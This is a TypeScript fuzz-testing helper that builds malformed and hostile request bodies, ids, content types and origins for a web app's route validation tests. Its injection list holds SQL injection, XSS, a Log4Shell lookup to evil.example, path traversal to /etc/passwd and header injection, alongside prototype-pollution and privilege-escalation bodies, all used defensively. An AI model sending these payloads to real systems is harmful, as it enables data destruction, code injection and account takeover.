/**
 * Hostile input for the fuzz tests (fast-check arbitraries), and the oracle that says what the route
 * stack must answer to a raw body: the route's own zod schema, parsed exactly as functions/http/route.ts
 * parses (empty body = {}, JSON.parse, 64 KiB limit).
 */
import fc from "fast-check";
import type { ZodMiniType } from "#shared/schemas/zod";

export const MAX_BODY_BYTES = 64 * 1024;
const MEGABYTE = 1024 * 1024;

/** Strings that try to be code somewhere downstream. */
export const INJECTION_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "#{7*7}",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%00",
  "\u0000",
  "\r\nSet-Cookie: sid=stolen",
  '{"$gt": ""}',
  "attribute_exists(pk) OR 1=1",
  "USER#admin",
  "SESSION#0000",
  "pk = :p",
  "__proto__",
  "constructor",
  "\u202eoverride",
  "\uD800",
  "\uDFFF\uD800",
  "Ω≈ç√∫˜µ≤≥÷",
  "👨‍👩‍👧‍👦🏳️‍🌈",
  "ﷺ",
  "Ｔｅｓｔ",
  "𝕿𝖊𝖘𝖙",
  "\t \n",
  "",
  " ",
];

/** Unicode of every kind, including lone surrogates and control characters. */
export const unicodeString = fc.oneof(
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.constantFrom(...INJECTION_STRINGS),
);

/** Strings over every field maximum but under the body limit, and ones far over the body limit. */
export const longString = fc.oneof(
  fc.integer({ min: 5_001, max: 40_000 }).map((n) => "a".repeat(n)),
  fc.constantFrom("A".repeat(MEGABYTE), "é".repeat(MEGABYTE / 2), "💰".repeat(MEGABYTE / 4)),
);

export const hostileString = fc.oneof(
  { weight: 4, arbitrary: unicodeString },
  { weight: 1, arbitrary: longString },
);

/** Amounts that are negative, fractional, absurd or not numbers at all (JSON turns NaN/Infinity into null). */
export const hostileNumber = fc.oneof(
  fc.integer({ min: -1_000_000_000, max: -1 }),
  fc.double({ min: -1e6, max: 1e6, noNaN: true }).filter((n) => !Number.isInteger(n)),
  fc.constantFrom(
    -0,
    0,
    0.5,
    -0.01,
    1e308,
    -1e308,
    Number.MAX_SAFE_INTEGER + 2,
    Number.NaN,
    Infinity,
    2 ** 31,
  ),
);

/** Decimal-looking strings a price field must refuse. */
export const hostilePrice = fc.constantFrom(
  "-1.00",
  "-0.01",
  "0",
  "0.00",
  "0.001",
  "1.234",
  "1e3",
  "0x10",
  "1,00",
  "١٢٣",
  "NaN",
  "Infinity",
  "99999999999999999999999.99",
  ".5",
  "5.",
  "+1.00",
);

/** Any JSON value of the wrong shape for a field. */
export const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.string({ maxLength: 10 }),
);

/** Fields a client must never be able to set. */
export const PRIVILEGED_FIELDS: Record<string, unknown> = {
  role: "admin",
  bidBalance: 1_000_000,
  passwordHash: "scrypt$1$1$1$AAAA$AAAA",
  id: "00000000-0000-0000-0000-000000000000",
  userId: "someone-else",
  sellerId: "someone-else",
  status: "approved",
  priceCents: 1,
  finalPrice: "0.01",
  paymentStatus: "paid",
  pk: "USER#admin",
  sk: "PROFILE",
};

/** Bodies that are not JSON (or not quite). */
export function malformedJson(valid: Record<string, unknown> | undefined) {
  const text = JSON.stringify(valid ?? { a: 1 });
  return fc.oneof(
    fc.integer({ min: 1, max: Math.max(1, text.length - 1) }).map((n) => text.slice(0, n)),
    fc.constantFrom(
      "{",
      "}",
      "{'username': 'x'}",
      '{"a":1,}',
      '{"a":}',
      '{"a" 1}',
      "undefined",
      "NaN",
      "[1,2",
      "{}{}",
      `${text}garbage`,
      `${text},`,
      "\u0000",
      "\uFEFF{}",
      "<xml/>",
      "a=1&b=2",
    ),
    fc.string({ unit: "binary", minLength: 1, maxLength: 30 }).filter((s) => !parses(s)),
  );
}

/** JSON values that are not an object. */
export const notAnObject = fc.oneof(
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 4 }),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.string({ maxLength: 20 }),
  fc.boolean(),
  fc.constant(null),
);

function parses(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

export interface Poison {
  /** What was broken, for the failure message. */
  label: string;
  /** The raw request body. */
  text: string;
}

/** Short in fast-check's counterexample report, however long the value (a 1 MB string is unreadable). */
export function brief(text: string): string {
  return text.length > 120
    ? `${JSON.stringify(text.slice(0, 100))}… (${text.length} characters)`
    : JSON.stringify(text);
}

/** A raw text that prints briefly in counterexamples. */
export interface Raw {
  text: string;
}
export const raw = (text: string): Raw => ({ text, [fc.toStringMethod]: () => brief(text) }) as Raw;

const poison = (label: string, text: string): Poison =>
  ({ label, text, [fc.toStringMethod]: () => `${label}: ${brief(text)}` }) as Poison;

const withField = (body: Record<string, unknown>, key: string, value: unknown) => ({ ...body, [key]: value });
const withoutField = (body: Record<string, unknown>, key: string) => {
  const { [key]: _, ...rest } = body;
  return rest;
};

/**
 * A valid body with exactly one thing broken: not JSON, not an object, a field missing, a field of
 * the wrong type, a huge or hostile string, a negative/fractional amount, a bad price, or privileged
 * extra fields together with a missing field.
 */
export function poisonedBody(valid: Record<string, unknown>): fc.Arbitrary<Poison> {
  const keys = Object.keys(valid);
  const key = fc.constantFrom(...(keys.length ? keys : ["field"]));
  const stringKeys = keys.filter((k) => typeof valid[k] === "string");
  const numberKeys = keys.filter((k) => typeof valid[k] === "number");
  const priceKeys = keys.filter((k) => /price|amount/i.test(k) && typeof valid[k] === "string");
  const json = (label: string, body: unknown): Poison => poison(label, JSON.stringify(body));

  const options: fc.Arbitrary<Poison>[] = [
    malformedJson(valid).map((text) => poison("malformed JSON", text)),
    notAnObject.map((v) => json("not an object", v)),
    key.map((k) => json(`missing ${k}`, withoutField(valid, k))),
    fc.tuple(key, wrongType).map(([k, v]) => json(`${k} of the wrong type`, withField(valid, k, v))),
    fc.constant(json("empty object", {})),
    fc
      .tuple(key, fc.subarray(Object.keys(PRIVILEGED_FIELDS), { minLength: 1 }))
      .map(([k, extra]) =>
        json(
          `extra ${extra.join(",")} and missing ${k}`,
          withoutField({ ...valid, ...Object.fromEntries(extra.map((e) => [e, PRIVILEGED_FIELDS[e]])) }, k),
        ),
      ),
    fc.constant(
      poison(
        "__proto__ pollution and a missing field",
        `{"__proto__":{"role":"admin","isAdmin":true},${JSON.stringify(withoutField(valid, keys[0] ?? "x")).slice(1)}`,
      ),
    ),
  ];
  if (stringKeys.length) {
    const sKey = fc.constantFrom(...stringKeys);
    options.push(
      fc.tuple(sKey, hostileString).map(([k, v]) => json(`${k} = hostile string`, withField(valid, k, v))),
    );
  }
  if (numberKeys.length) {
    const nKey = fc.constantFrom(...numberKeys);
    options.push(fc.tuple(nKey, hostileNumber).map(([k, v]) => json(`${k} = ${v}`, withField(valid, k, v))));
  }
  if (priceKeys.length) {
    const pKey = fc.constantFrom(...priceKeys);
    options.push(fc.tuple(pKey, hostilePrice).map(([k, v]) => json(`${k} = "${v}"`, withField(valid, k, v))));
  }
  return fc.oneof(...options);
}

/**
 * What the route stack must answer to this raw body: 413 over the limit, 400 when the schema (or
 * JSON.parse) refuses it, null when the body is acceptable (the request may then succeed).
 */
export function expectedBodyRefusal(schema: ZodMiniType, text: string): 400 | 413 | null {
  if (Buffer.byteLength(text) > MAX_BODY_BYTES) return 413;
  let parsed: unknown = {};
  if (text.trim() !== "") {
    try {
      parsed = JSON.parse(text);
    } catch {
      return 400;
    }
  }
  return schema.safeParse(parsed).success ? null : 400;
}

/** Path ids that exist nowhere: random, unicode, injection, very long, look-alikes of real ids. */
export const hostileId = fc.oneof(
  fc.uuid(),
  fc.string({ unit: "binary", minLength: 1, maxLength: 80 }),
  fc.constantFrom(...INJECTION_STRINGS.filter((s) => s.trim() !== "")),
  fc.integer({ min: 65, max: 20_000 }).map((n) => "9".repeat(n)),
  fc.constantFrom("pi_does_not_exist", "pi_local_0000", "0", "-1", "null", "undefined", "%", "..", "."),
);

/** Content types a cross-site form (or a careless client) might send instead of JSON. */
export const wrongContentType = fc.constantFrom(
  "text/plain",
  "text/plain;charset=UTF-8",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----x",
  "application/xml",
  "text/html",
  "application/javascript",
  "application/jsonp",
  "json",
  "",
);

/** Origins that are not the site's own. */
export const foreignOrigin = fc.constantFrom(
  "https://evil.example",
  "http://localhost:5173.evil.example",
  "http://evil.example:5173",
  "null",
  "https://localhost:5174",
  "file://",
  "not a url",
);
